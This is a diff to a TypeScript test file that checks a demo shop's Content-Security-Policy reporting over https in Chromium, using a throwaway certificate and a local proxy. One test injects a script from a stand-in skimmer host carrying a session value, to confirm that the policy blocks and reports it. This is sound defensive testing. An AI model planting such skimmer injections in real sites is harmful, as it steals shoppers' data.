@@ -7,10 +7,20 @@
 // violations escaped and is guarded like /reconciliation. And the whole way
 // in a real browser: a script a storefront's policy blocks in Chromium
 // reaches the report page.
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { request as httpRequest } from 'node:http';
+import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CSP_REPORTS_PER_CLIENT, type MerchantServer } from '../examples/merchant-server/src/server.js';
-import { launchBrowser, recordViolations, type TestBrowser } from './support/browser.js';
+import { CSP_REPORTS_PER_CLIENT, startMerchantServer, type MerchantServer } from '../examples/merchant-server/src/server.js';
+import { findSharedFiles, findStorefronts, findVendorLibraries } from '../examples/merchant-server/src/storefronts.js';
+import { CHROMIUM_ARGS, chromiumPath, launchBrowser, recordViolations, type TestBrowser } from './support/browser.js';
+import { freshDataDir } from './support/data-dir.js';
 import { startShopOnSandbox, type ShopOnSandbox } from './support/merchant.js';
 
 let world: ShopOnSandbox;
@@ -30,14 +40,16 @@ interface Answer {
   body: string;
 }
 
+const repo = fileURLToPath(new URL('..', import.meta.url)).replace(/\/$/, '');
+
 /** One request to the shop, from `localAddress` (a loopback address of its own plays another client). */
 function send(
   path: string,
-  options: { method?: string; headers?: Record<string, string>; body?: string; localAddress?: string } = {},
+  options: { method?: string; headers?: Record<string, string>; body?: string; localAddress?: string; base?: string } = {},
 ): Promise<Answer> {
   return new Promise((resolve, reject) => {
     const request = httpRequest(
-      new URL(path, shop.url),
+      new URL(path, options.base ?? shop.url),
       { method: options.method ?? 'GET', headers: options.headers ?? {}, agent: false, localAddress: options.localAddress },
       (res) => {
         let body = '';
@@ -251,5 +263,107 @@ describe('a storefront in Chromium', () => {
     ]);
     expect(html).not.toContain('SHOPPER-SECRET');
     await tab.close();
+  });
+});
+
+/** Where openssl is: the https test makes its certificate with it. */
+const hasOpenssl = (() => {
+  try {
+    execFileSync('openssl', ['version'], { stdio: 'ignore' });
+    return true;
+  } catch {
+    return false;
+  }
+})();
+
+/**
+ * The shop behind an https proxy on 127.0.0.1 (a certificate made for the
+ * test), as shoppers reach a live shop: its PUBLIC_URL is https, so its
+ * pages name report-to, and Chromium reports through the Reporting API.
+ */
+describe.skipIf(!hasOpenssl)('a storefront over https in Chromium', () => {
+  let certDir: string;
+  let proxy: HttpsServer;
+  let secureShop: MerchantServer;
+  let removeData: () => void;
+  let upstream = '';
+
+  beforeAll(async () => {
+    certDir = mkdtempSync(join(tmpdir(), 'wpwl-csp-tls-'));
+    const [key, cert] = [join(certDir, 'key.pem'), join(certDir, 'cert.pem')];
+    const subject = ['-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'];
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, '-days', '1', ...subject], {
+      stdio: 'ignore',
+    });
+    proxy = createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (req, res) => {
+      const forward = httpRequest(
+        new URL(req.url ?? '/', upstream),
+        { method: req.method, headers: req.headers, agent: false },
+        (answer) => {
+          res.writeHead(answer.statusCode ?? 502, answer.headers);
+          answer.pipe(res);
+        },
+      );
+      forward.on('error', () => res.destroy());
+      req.pipe(forward);
+    });
+    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
+    const data = await freshDataDir();
+    removeData = data.remove;
+    const { sandbox } = world;
+    secureShop = await startMerchantServer({
+      database: { dataDir: data.dir },
+      gateway: { baseUrl: sandbox.url, accessToken: sandbox.accessToken, entityId: sandbox.entityId },
+      port: 0,
+      recheckIntervalMs: 0,
+      publicUrl: `https://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
+      storefronts: findStorefronts(`${repo}/examples`),
+      vendor: [...findVendorLibraries(`${repo}/packages`), ...findSharedFiles(`${repo}/examples`)],
+    });
+    upstream = secureShop.url;
+  });
+  afterAll(async () => {
+    await new Promise((resolve) => proxy?.close(resolve));
+    await secureShop?.close();
+    removeData?.();
+    if (certDir) rmSync(certDir, { recursive: true, force: true });
+  });
+
+  it('names report-to with Reporting-Endpoints, and the Reporting API report reaches the page', { timeout: 60_000 }, async () => {
+    const publicUrl = `https://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+    // The Reporting API batches (a minute by default): this switch makes Chromium send at once.
+    const browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_ARGS, '--short-reporting-delay'] });
+    try {
+      const context = await browser.newContext({ ignoreHTTPSErrors: true });
+      const page = await context.newPage();
+      const response = await page.goto(`${publicUrl}/core-storefront/?coupon=SHOPPER-SECRET`, { waitUntil: 'load' });
+      const headers = response?.headers() ?? {};
+      expect(headers['content-security-policy']).toMatch(/(^|; )report-to csp-endpoint; report-uri \/csp-reports$/);
+      expect(headers['reporting-endpoints']).toBe('csp-endpoint="/csp-reports"');
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.src = 'https://skimmer.example/over-tls.js?session=SHOPPER-SECRET';
+        document.head.append(script);
+      });
+
+      let row: string[] | undefined;
+      const deadline = Date.now() + 30_000;
+      while (!row && Date.now() < deadline) {
+        const html = (await send('/csp-reports', { base: secureShop.url })).body;
+        row = rowFor(violationRows(html), 'https://skimmer.example/over-tls.js');
+        if (!row) await new Promise((resolve) => setTimeout(resolve, 500));
+      }
+      expect(row?.slice(0, 5)).toEqual([
+        'script-src-elem',
+        'https://skimmer.example/over-tls.js',
+        `${publicUrl}/core-storefront/`,
+        expect.any(String),
+        'blocked',
+      ]);
+      // The Reporting API names the browser in the report itself.
+      expect(row?.[8]).toMatch(/Chrom/);
+    } finally {
+      await browser.close();
+    }
   });
 });
